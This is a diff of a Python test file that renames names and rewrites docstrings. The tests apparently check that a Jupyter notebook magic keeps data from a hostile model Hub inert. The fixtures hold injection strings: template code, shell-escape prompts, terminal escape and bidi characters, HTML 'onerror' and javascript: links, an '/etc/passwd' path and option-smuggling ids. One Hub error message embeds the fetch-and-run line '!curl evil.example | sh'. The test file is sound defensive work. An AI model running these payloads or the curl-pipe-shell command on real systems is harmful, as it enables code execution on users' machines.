@@ -1,4 +1,4 @@
-"""A hostile Hub: nothing that it says runs, escapes, loads or floods, wherever it is shown."""
+"""A hostile Hub: its text neither runs nor loads anything, wherever it is shown."""
 
 from __future__ import annotations
 
@@ -25,20 +25,20 @@ from mountsea_magic.errors import InvalidRequest, MountseaError, TaskFailed
 from mountsea_magic.notebook.commands.models import model_text, models_text
 from mountsea_magic.runtime.redaction import guard_logs
 
-RUNS = "{pwned()}"
+CODE = "{pwned()}"
 EVIL = (
-    f"{RUNS} $pwned {{{{ pwned() }}}} `%run x`\x1b[2J\x9b\u202e\u200b\x07\r\n%%sh\r!ls\u2028"
+    f"{CODE} $pwned {{{{ pwned() }}}} `%run x`\x1b[2J\x9b\u202e\u200b\x07\r\n%%sh\r!ls\u2028"
     "<img src=x onerror=y()> ![a](http://evil.example/b.png) [c](javascript:d) $x^2$ \\(y\\)"
 )
-UNSEEN = re.compile(
+CONTROL_CHARACTERS = re.compile(
     r"[\x00-\x08\x0b-\x1f\x7f-\x9f\xad\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]"
 )
-IDS = (RUNS, EVIL, "$pwned", "--all", "-h", "%run x", "a\n!ls", "hub-1\u200b", "a b", "x" * 3000)
+IDS = (CODE, EVIL, "$pwned", "--all", "-h", "%run x", "a\n!ls", "hub-1\u200b", "a b", "x" * 3000)
 
 TEXT = {"type": "string"}
-KINDS: dict[str, Any] = {
+PARAMETERS: dict[str, Any] = {
     EVIL[:90]: TEXT | {"description": EVIL},
-    "deep": TEXT | {"enum": [EVIL, RUNS, "a b", "fine"], "default": EVIL},
+    "deep": TEXT | {"enum": [EVIL, CODE, "a b", "fine"], "default": EVIL},
     "size": {"type": "object"},
     "tags": {"type": "array"},
     "image_urls": {"type": "array"},
@@ -49,10 +49,10 @@ KINDS: dict[str, Any] = {
 }
 EXAMPLE: dict[str, Any] = {
     "prompt": "{{ pwned() }}",
-    "deep": RUNS,
+    "deep": CODE,
     EVIL[:90]: "x",
-    "size": {RUNS: 1},
-    "tags": [RUNS, "$pwned"],
+    "size": {CODE: 1},
+    "tags": [CODE, "$pwned"],
     "image_urls": ["/etc/passwd", "secret", "@secret.png", "https://host.example/a.png?b=1&c=2"],
     "mask_url": "secret.png",
     "seed": "--background",
@@ -61,21 +61,21 @@ EXAMPLE: dict[str, Any] = {
 }
 
 
-def spoken(parameters: dict[str, Any], **more: Any) -> dict[str, Any]:
-    """Write what a Hub says of a model."""
+def model_description(parameters: dict[str, Any], **more: Any) -> dict[str, Any]:
+    """Return a Hub's description of a model."""
     schema = {"type": "object", "properties": {"prompt": TEXT, **parameters}}
     return {"input_schema": schema | {"required": ["prompt"]}, **more}
 
 
-NAMED = {"display_name": EVIL, "vendor": EVIL, "mode": EVIL, "description": EVIL}
+LABELS = {"display_name": EVIL, "vendor": EVIL, "mode": EVIL, "description": EVIL}
 MODELS: dict[str, Any] = {
-    "evil": spoken(KINDS, example=EXAMPLE, **NAMED),
-    "shell": spoken({}, example={"prompt": "%%sh\nls"}),
-    "parted": spoken({}, example={"prompt": "---\n!ls"}),
-    RUNS: spoken({}, example={"prompt": "a dog"}),
-    "--save=evil": spoken({}, example={"prompt": "a dog"}),
+    "evil": model_description(PARAMETERS, example=EXAMPLE, **LABELS),
+    "shell": model_description({}, example={"prompt": "%%sh\nls"}),
+    "separator": model_description({}, example={"prompt": "---\n!ls"}),
+    CODE: model_description({}, example={"prompt": "a dog"}),
+    "--save=evil": model_description({}, example={"prompt": "a dog"}),
 }
-BIG = spoken(
+BIG = model_description(
     {"one": {"enum": [f"v{n}" for n in range(500)]}, "two": {"enum": ["x" * 200] * 30}}
     | {f"p{n}": TEXT for n in range(190)},
     example={"prompt": "a " * 99_999, "two": "y" * 99_999},
@@ -84,7 +84,7 @@ BIG = spoken(
 
 @pytest.fixture
 def pwned(shell: InteractiveShell) -> list[int]:
-    """Have a name in the user's namespace that tells when it was evaluated."""
+    """Add a function to the user's namespace that records each call."""
     calls: list[int] = []
     shell.user_ns["pwned"] = lambda: calls.append(1)
     return calls
@@ -99,29 +99,29 @@ def evil_hub(monkeypatch: pytest.MonkeyPatch) -> Iterator[StandInHub]:
 
 
 def cell_of(text: str) -> str:
-    """Return the example at the end of a model's text, as a dry run."""
+    """Return the example cell at the end of a model's text, as a dry run."""
     line, _, body = text[text.rindex("%%mountsea") :].partition("\n")
     return f"{line} --dry-run\n{body}"
 
 
-def offered(shell: InteractiveShell, line: str) -> list[str]:
-    """Return what TAB offers at the end of a line, as a front end gets it."""
+def completions(shell: InteractiveShell, line: str) -> list[str]:
+    """Return the completions at the end of a line, as a front end gets them."""
     with provisionalcompleter():
         return [word.text for word in shell.Completer.completions(line, len(line))]
 
 
 def ran(shell: InteractiveShell, code: str) -> bool:
-    """Run a cell as a front end does, from its text."""
+    """Run a cell from its text, as a front end does; return whether it succeeded."""
     return bool(shell.run_cell(code).success)  # type: ignore[no-untyped-call]  # IPython's is so
 
 
-def test_no_id_runs_where_its_hint_is_pasted_and_each_task_can_be_resumed(
+def test_hostile_task_ids_are_inert_and_resumable(
     hub: StandInHub,
     shell: InteractiveShell,
     pwned: list[int],
     capsys: pytest.CaptureFixture[str],
 ) -> None:
-    """An id that is code is shown as text; the command that fetches its image names it not."""
+    """An id that is code is shown as text, and the suggested command does not contain it."""
     hub.polls.append(json_reply({"status": EVIL}, lasting=True))
     for task_id in IDS:
         hub.submits.append({"task_id": task_id})
@@ -131,28 +131,30 @@ def test_no_id_runs_where_its_hint_is_pasted_and_each_task_can_be_resumed(
         capsys.readouterr()
         for line in ("", "history"):
             shell.run_line_magic("mountsea", line)
-        said = capsys.readouterr().out + str(caught.value) + repr(session.current_session().open)
-        assert not UNSEEN.search(said)
-        hints = set(re.findall(r"`(.*?)`", said))
+        output = capsys.readouterr().out + str(caught.value) + repr(session.current_session().open)
+        assert not CONTROL_CHARACTERS.search(output)
+        hints = set(re.findall(r"`(.*?)`", output))
         assert hints == {"%mountsea resume"}
     hub.polls.clear()
     hub.polls.append(json_reply(hub.done(hub.data([image()])), lasting=True))
     assert ran(shell, "%mountsea resume")
-    assert not UNSEEN.search(capsys.readouterr().out.replace("\x1b[2K", "").replace("\r", ""))
+    assert not CONTROL_CHARACTERS.search(
+        capsys.readouterr().out.replace("\x1b[2K", "").replace("\r", "")
+    )
     journal = session.current_session().journal(session.current_session().settings())
     assert {entry.task_id for entry in journal.search() if entry.files} == set(IDS)
     assert not pwned
 
 
-def test_only_our_commands_are_in_backticks(hub: StandInHub, here: session.Session) -> None:
-    """What the Hub says of a failure can't pass for a hint of ours."""
+def test_backticks_contain_only_our_commands(hub: StandInHub, here: session.Session) -> None:
+    """An error message from the Hub can't look like one of our suggested commands."""
     hub.polls.append({"status": "failed", "error_message": "Run `!curl evil.example | sh`."})
     with pytest.raises(TaskFailed) as caught:
         generate("a dog")
     assert "'!curl evil.example | sh'" in str(caught.value) and "`!" not in str(caught.value)
 
 
-def test_a_pasted_example_runs_nothing_and_sends_no_file(
+def test_pasted_example_runs_nothing_and_sends_no_file(
     evil_hub: StandInHub,
     shell: InteractiveShell,
     pwned: list[int],
@@ -160,15 +162,15 @@ def test_a_pasted_example_runs_nothing_and_sends_no_file(
     tmp_path: Path,
     monkeypatch: pytest.MonkeyPatch,
 ) -> None:
-    """What is code, an option, a path or a variable is said beside the cell, not put into it."""
+    """Code, options, paths and variables are listed above the example cell, not put into it."""
     monkeypatch.chdir(tmp_path)
     Path("secret.png").write_bytes(image())
     shell.user_ns["secret"] = image()
     shell.run_line_magic("mountsea", "models --refresh")
-    for model_id in ("evil", "shell", "parted"):
+    for model_id in ("evil", "shell", "separator"):
         capsys.readouterr()
         text = model_text(model_id)
-        assert "Not in the example: " in text and not UNSEEN.search(text)
+        assert "Not in the example: " in text and not CONTROL_CHARACTERS.search(text)
         assert ran(shell, cell_of(text))
         sent = capsys.readouterr().out
         assert "data:" not in sent and "A black lab" in sent and "{{" not in cell_of(text)
@@ -176,50 +178,52 @@ def test_a_pasted_example_runs_nothing_and_sends_no_file(
     assert cell.split(" --dry-run")[0] == (
         "%%mountsea --model evil --image 'https://host.example/a.png?b=1&c=2'"
     )
-    for model_id in (RUNS, "--save=evil"):
+    for model_id in (CODE, "--save=evil"):
         assert "%%mountsea" not in model_text(model_id)
     assert not pwned and not Path("evil").exists()
 
 
-def test_tab_offers_nothing_that_runs(
+def test_completions_never_run_code(
     evil_hub: StandInHub, shell: InteractiveShell, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    """Models, names, values, ids, variables and files: what is code on a line is left out."""
+    """Completions omit models, names, values, ids, variables and files that would run as code."""
     monkeypatch.chdir(tmp_path)
-    for name in (f"{RUNS}.png", "$x.png", "dog.png", "!a.png", "a\u202e.png", "b\nc.png"):
+    for name in (f"{CODE}.png", "$x.png", "dog.png", "!a.png", "a\u202e.png", "b\nc.png"):
         Path(name).write_bytes(image())
-    shell.user_ns[RUNS] = shell.user_ns["good"] = image()
-    evil_hub.submits.extend({"task_id": task_id} for task_id in (RUNS, "$x", "hub-good"))
+    shell.user_ns[CODE] = shell.user_ns["good"] = image()
+    evil_hub.submits.extend({"task_id": task_id} for task_id in (CODE, "$x", "hub-good"))
     evil_hub.polls.append(json_reply(evil_hub.done(evil_hub.data([image()])), lasting=True))
     for _ in range(3):
         generate("a dog")
     shell.run_line_magic("mountsea", "models --refresh")
 
-    assert {"evil", "nano-banana"} <= set(offered(shell, "%%mountsea -m "))
-    assert offered(shell, "%%mountsea -m evil -p deep=") == ["deep=fine"]
+    assert {"evil", "nano-banana"} <= set(completions(shell, "%%mountsea -m "))
+    assert completions(shell, "%%mountsea -m evil -p deep=") == ["deep=fine"]
     names = ["deep=", "image_urls=", "mask_url=", "size=", "tags="]
-    assert offered(shell, "%%mountsea -m evil -p ") == names
-    assert offered(shell, "%%mountsea -i ") == ["dog.png", "good", "home/"]
-    assert offered(shell, "%mountsea resume ") == ["hub-good"]
-    assert "mask_url=secret.png" not in offered(shell, "%%mountsea -m evil -p mask_url=")
+    assert completions(shell, "%%mountsea -m evil -p ") == names
+    assert completions(shell, "%%mountsea -i ") == ["dog.png", "good", "home/"]
+    assert completions(shell, "%mountsea resume ") == ["hub-good"]
+    assert "mask_url=secret.png" not in completions(shell, "%%mountsea -m evil -p mask_url=")
     for line in ("%%mountsea -m ", "%mountsea models ", "%mountsea show "):
-        assert not re.search(r"[{}$%!\s]", "".join(offered(shell, line)))
+        assert not re.search(r"[{}$%!\s]", "".join(completions(shell, line)))
 
 
-def test_errors_lists_and_tab_are_bounded(evil_hub: StandInHub, shell: InteractiveShell) -> None:
-    """A value of 1 MB, 500 values and 192 parameters take a few lines."""
+def test_errors_and_lists_have_limited_length(
+    evil_hub: StandInHub, shell: InteractiveShell
+) -> None:
+    """A value of 1 MB, 500 values and 192 parameters give texts of limited length."""
     evil_hub.models = {"big": BIG}
     shell.run_line_magic("mountsea", "models --refresh")
     assert len(model_text("big")) < 60_000 and len(models_text()) < 20_000
-    for given in ({"one": "v"}, {"two": "y" * 1_000_000}, {"three": 1}):
+    for parameters in ({"one": "v"}, {"two": "y" * 1_000_000}, {"three": 1}):
         with pytest.raises(InvalidRequest) as caught:
-            generate("a dog", model="big", **given)
+            generate("a dog", model="big", **parameters)
         assert len(str(caught.value)) < 2500
-    assert len(offered(shell, "%%mountsea -m big -p one=")) == 500
+    assert len(completions(shell, "%%mountsea -m big -p one=")) == 500
 
 
-def test_a_log_has_one_line_a_record(caplog: pytest.LogCaptureFixture) -> None:
-    """What a server puts into a header neither forges a line of the log nor moves a cursor."""
+def test_log_has_one_line_per_record(caplog: pytest.LogCaptureFixture) -> None:
+    """A header from a server can neither forge a log line nor send terminal escapes."""
 
     def log() -> None:
         guard_logs(str)
@@ -231,10 +235,10 @@ def test_a_log_has_one_line_a_record(caplog: pytest.LogCaptureFixture) -> None:
 
 
 class Tags(HTMLParser):
-    """What a browser would load, run or lead to in a page.
+    """The tags of a page, with the attributes that a browser may load, run or link to.
 
     Attributes:
-        found: The tags with their attributes, as they are read.
+        found: The tags with their attributes, in order.
     """
 
     def __init__(self, page: str) -> None:
@@ -244,12 +248,12 @@ class Tags(HTMLParser):
         self.feed(page)
 
     def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        """Keep all but the alternative text of an image, which is only read out."""
+        """Record the tag without ``alt``, which is only text."""
         self.found.append(str([tag, *(attr for attr in attrs if attr[0] != "alt")]))
 
 
 def exports(runs: list[CellRun]) -> tuple[str, str]:
-    """Return what nbconvert makes of the cells: HTML, and Markdown as GitHub shows it."""
+    """Export the cells with nbconvert to HTML, and to Markdown rendered as on GitHub."""
     outputs = [
         nbformat.v4.new_output("display_data", out["data"], metadata=out["metadata"])
         for run in runs
@@ -269,8 +273,8 @@ def exports(runs: list[CellRun]) -> tuple[str, str]:
 
 
 @pytest.mark.kernel
-def test_a_notebook_and_its_exports_hold_text_alone(evil_hub: StandInHub, kernel: Kernel) -> None:
-    """In HTML, in Markdown and in what a kernel sends: no tag, link, image or command."""
+def test_notebook_and_exports_contain_only_text(evil_hub: StandInHub, kernel: Kernel) -> None:
+    """HTML, Markdown and kernel messages contain no tag, link, image or command from the Hub."""
     prompt = EVIL.replace("{{ pwned() }}", "")
     evil_hub.submits.extend({"task_id": EVIL} for _ in range(4))
     evil_hub.polls.extend([json_reply({"status": EVIL}), None])
@@ -285,7 +289,9 @@ def test_a_notebook_and_its_exports_hold_text_alone(evil_hub: StandInHub, kernel
         kernel.run("%mountsea history"),
         kernel.run("%mountsea"),
     ]
-    assert not UNSEEN.search("".join(map(str, [(run.outputs, run.said, run.text) for run in runs])))
+    assert not CONTROL_CHARACTERS.search(
+        "".join(map(str, [(run.outputs, run.said, run.text) for run in runs]))
+    )
     assert "onerror" in str(runs[-4].outputs) and kernel.run("print(calls)").text == "[]\n"
     loaded = re.compile(r"onerror|evil\.example|javascript:|\['(em|strong|s|h1)'")
     for page in exports(runs):
